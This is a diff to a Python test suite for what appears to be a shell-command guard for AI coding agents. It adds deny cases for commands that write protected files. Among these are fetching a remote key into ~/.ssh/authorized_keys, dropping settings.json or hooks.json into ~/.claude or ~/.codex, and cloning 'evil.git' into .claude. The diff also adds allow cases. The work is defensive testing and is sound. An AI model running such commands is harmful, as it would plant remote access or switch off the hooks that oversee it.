@@ -288,6 +288,30 @@ _INTO_FOLDERS_ALLOW = [
     "cp ~/protected/a.txt /tmp/", "cp -r ~/protected /tmp/p", "cp /tmp/in/plain/a.txt ~/.claude/notes.txt",
     "rsync -a src/ /tmp/src",
 ]
+#: programs whose OUTPUT an option or a later operand names write it (programs.OUTPUT_OPTIONS,
+#: OUTPUT_OPERANDS, IN_PLACE, output_writes), and mkdir makes what it is given
+_OUTPUTS_DENY = [
+    "sort -o ~/protected/a.txt notes.txt", "sort -uo ~/protected/a.txt notes.txt",
+    "sort --output=/home/policy-test/protected/a.txt notes.txt",
+    "uniq notes.txt ~/protected/a.txt", "split -l1 notes.txt ~/protected/p_",
+    "curl -s -o ~/protected/a.txt file:///etc/hostname", "curl -sSLo ~/.ssh/authorized_keys http://x/k",
+    "wget -q -O ~/protected/a.txt http://127.0.0.1:1/", "wget -P ~/.claude http://x/settings.json",
+    "cd ~/.codex && curl -O http://x/hooks.json", "ssh-keygen -q -N '' -f ~/protected/k",
+    "ssh-keygen -q -N '' -f ~/.ssh/id_new", "gzip ~/protected/a.txt", "bzip2 -f ~/protected/a.txt",
+    "xz ~/protected/a.txt", "zstd --rm ~/protected/a.txt", "git init -q ~/protected",
+    "cd ~/protected && git init", "git clone http://x/evil.git .claude",
+    "mkdir ~/protected/newdir", "mkdir -p ~/protected/a/b", "gpg -o ~/.claude/settings.json -d x.gpg",
+    "openssl enc -d -in x.enc -out ~/.codex/hooks.json", "csplit -f ~/protected/p notes.txt 2",
+    "xxd -r notes.txt ~/protected/a.txt",
+]
+_OUTPUTS_ALLOW = [
+    "sort -o out.txt notes.txt", "sort notes.txt", "uniq notes.txt", "uniq notes.txt out.txt",
+    "split -l1 notes.txt part_", "curl -o /tmp/x http://x/y", "curl -O http://x/y.tgz",
+    "wget http://x/y.tgz", "gzip -c ~/protected/a.txt", "gzip -k notes.txt",
+    "gzip -t ~/protected/a.txt", "zcat ~/protected/a.txt", "git init", "git init /tmp/newrepo",
+    "git clone http://x/repo.git", "mkdir -p build/out", "ssh-keygen -t ed25519 -f /tmp/k -N ''",
+    "ssh-keygen -lf ~/.ssh/id_ed25519.pub", "grep -o foo notes.txt", "sort ~/protected/a.txt",
+]
 #: more of the class: a parent's file, a link made over it, Codex's project hooks file
 _LAYER_MORE = [
     "ln -sf /tmp/s.json .claude/settings.local.json", "cat > ../.claude/settings.local.json",
@@ -394,7 +418,8 @@ def _build() -> dict[str, list]:
     CLASSES["argv: git"] = [(c, CWD, "deny") for c in _GIT_DENY]
     CLASSES["reads of protected files"] = [(c, d, "deny") for c, d in _KEY_READS]
     CLASSES["writes of protected files"] = ([(c, CWD, "deny") for c in _KEY_WRITES]
-                                            + [(c, CWD, "deny") for c in _INTO_FOLDERS_TREE])
+                                            + [(c, CWD, "deny") for c in _INTO_FOLDERS_TREE]
+                                            + [(c, CWD, "deny") for c in _OUTPUTS_DENY])
     CLASSES["the guard's own files"] = ([(c, CWD, "deny") for c in _SELF_WRITES]
                                         + [(c, CWD, "deny") for c in _INTO_FOLDERS_SELF])
     CLASSES["layers that switch hooks off"] = ([(c, CWD, "deny") for c in _HOOK_OFF_WRITES]
@@ -404,7 +429,8 @@ def _build() -> dict[str, list]:
     CLASSES["shell forms not evaluated"] = [(c, CWD, e) for c, e in _NOT_EVALUATED]
     CLASSES["links, deletions and code run elsewhere"] = [(c, CWD, e) for c, e in _EFFECTS]
     CLASSES["mentions and neighbours"] = [(c, CWD, "allow")
-                                          for c in _MENTIONS_ALLOW + _INTO_FOLDERS_ALLOW]
+                                          for c in _MENTIONS_ALLOW + _INTO_FOLDERS_ALLOW
+                                          + _OUTPUTS_ALLOW]
     CLASSES["other tools"] = list(_TOOL_CASES)
     return CLASSES
 
